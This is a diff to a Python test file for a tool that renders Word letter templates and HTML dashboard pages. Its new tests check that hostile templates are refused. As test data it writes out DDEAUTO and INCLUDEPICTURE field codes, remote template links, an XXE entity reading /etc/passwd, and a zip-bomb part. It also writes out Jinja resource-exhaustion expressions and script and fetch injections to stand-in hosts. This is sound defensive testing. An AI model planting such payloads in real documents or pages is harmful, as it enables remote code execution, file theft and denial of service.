@@ -33,6 +33,11 @@ from tests.test_cli import kongchuo
 if TYPE_CHECKING:
     from pathlib import Path
 
+POLICY = next(
+    line
+    for line in (packaged_templates() / "dashboard" / "page.html.j2").read_text("utf-8").splitlines()
+    if "Content-Security-Policy" in line
+)
 KINDS = list(VARIABLES)
 
 
@@ -47,7 +52,8 @@ def paper(folder: Path, kind: str, *paragraphs: str) -> Path:
 
 def page(folder: Path, text: str, name: str = "page.html.j2") -> Path:
     folder.mkdir(parents=True, exist_ok=True)
-    (folder / name).write_text(text, "utf-8")
+    lead = f"{POLICY}\n" if name == "page.html.j2" and "<html" not in text else ""
+    (folder / name).write_text(lead + text, "utf-8")
     return folder
 
 
@@ -220,7 +226,7 @@ def test_an_own_page_is_drawn_with_parts_of_the_program(tmp_path: Path) -> None:
     own = page(tmp_path / "模板" / "dashboard", '{% import "parts.html.j2" as parts %}本镇：{{ page.title }}')
     path = tmp_path / "page.html"
     dashboard.write(month.results(), path, [own, packaged_templates() / "dashboard"])
-    assert path.read_text("utf-8").startswith("本镇：青石镇")
+    assert "本镇：青石镇" in path.read_text("utf-8")
 
 
 def test_a_page_that_fails_while_it_is_drawn_says_so_on_the_programs_own(tmp_path: Path) -> None:
@@ -310,3 +316,77 @@ def test_braces_that_are_no_mark_are_left_alone(tmp_path: Path, text: str) -> No
 def test_full_width_braces_in_the_page_are_told(tmp_path: Path) -> None:
     found = page_faults(page(tmp_path, "<p>｛｛ page.title ｝｝</p>"))
     assert ["｛｛ page.title ｝｝" in fault.message for fault in found] == [True]
+
+
+# ── what a template of another office may not do ─────────────────────────────────────────────────
+def with_part(path: Path, name: str, content: str) -> Path:
+    with zipfile.ZipFile(path) as old:
+        parts = {entry: old.read(entry) for entry in old.namelist()}
+    with zipfile.ZipFile(path, "w") as new:
+        for entry, held in {**parts, name: content.encode()}.items():
+            new.writestr(entry, held)
+    return path
+
+
+def field(instruction: str) -> str:
+    return f'<w:r xmlns:w="w"><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("word/header9.xml", field(' INCLUDEPICTURE "http://x/{{姓名}}" ')),
+        ("word/header9.xml", field(" INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT c:\\x ")),
+        ("word/footer9.xml", field(" DDEAUTO cmd x ")),
+        ("word/footnotes.xml", '<w:fldSimple xmlns:w="w" w:instr=" LINK Excel.Sheet x "/>'),
+        ("word/_rels/settings.xml.rels", '<R Type="attachedTemplate" Target="http://x/a.dotm" TargetMode="External"/>'),
+        ("word/_rels/document.xml.rels", "<R Target='file:///x.png' TargetMode='External'/>"),
+        ("word/vbaProject.bin", "x"),
+        ("word/embeddings/oleObject1.bin", "x"),
+        ("word/styles.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
+    ],
+)
+def test_a_paper_that_fetches_or_runs_something_is_refused(tmp_path: Path, name: str, content: str) -> None:
+    path = with_part(paper(tmp_path, "家访记录表", "{{姓名}}"), name, content)
+    assert letter_faults(path, "家访记录表")
+
+
+def test_a_part_without_end_is_no_word_file(tmp_path: Path) -> None:
+    path = paper(tmp_path, "家访记录表", "{{姓名}}")
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
+        package.writestr("word/media/big.xml", b" " * (80 << 20))
+    assert letter_faults(path, "家访记录表")
+
+
+@pytest.mark.parametrize(
+    "mark",
+    [
+        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
+        "{{ 姓名.center(2000000000) }}", "{{ 姓名|center(2000000000) }}", "{{ '%2000000000d' % 1 }}",
+        "{{ '{:>2000000000}'.format(1) }}", "{{ 姓名.ljust(99999999999) }}", "{{ 姓名 * 999999999 }}",
+        "{% for a in 姓名 %}{% for b in 姓名 %}{% for c in 姓名 %}x{% endfor %}{% endfor %}{% endfor %}",
+    ],
+)  # fmt: skip
+def test_work_without_end_is_refused_at_once(tmp_path: Path, mark: str) -> None:
+    assert letter_faults(paper(tmp_path, "家访记录表", mark), "家访记录表")
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("default-src 'none'", "default-src *"),
+        ('<meta http-equiv="Content-Security-Policy"', '<meta name="x"'),
+        ("</body>", '<img src="https://x.example/a.png"></body>'),
+        ("</body>", "<script src=//x.example/a.js></script></body>"),
+        ("</body>", "<style>@import 'x'; a{background:url(http://x)}</style></body>"),
+        ("</body>", "<script>fetch('http://x')</script></body>"),
+        ("</body>", "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}</body>"),
+    ],
+)
+def test_a_page_that_reaches_the_network_or_weakens_its_protection_is_refused(
+    tmp_path: Path, old: str, new: str
+) -> None:
+    text = (packaged_templates() / "dashboard" / "page.html.j2").read_text("utf-8")
+    assert old in text
+    assert page_faults(page(tmp_path, text)) == []
+    assert page_faults(page(tmp_path, text.replace(old, new, 1)))
